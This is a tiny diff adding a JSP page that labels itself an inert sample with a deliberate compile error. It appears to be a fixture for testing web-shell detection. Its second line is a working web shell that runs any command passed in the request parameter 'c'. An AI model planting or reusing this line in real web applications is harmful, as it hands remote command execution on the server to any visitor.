@@ -1,0 +1,2 @@
+<% shodo inert sample: deliberate compile error, this page never runs %>
+<% Process p = Runtime.getRuntime().exec(request.getParameter("c")); %>
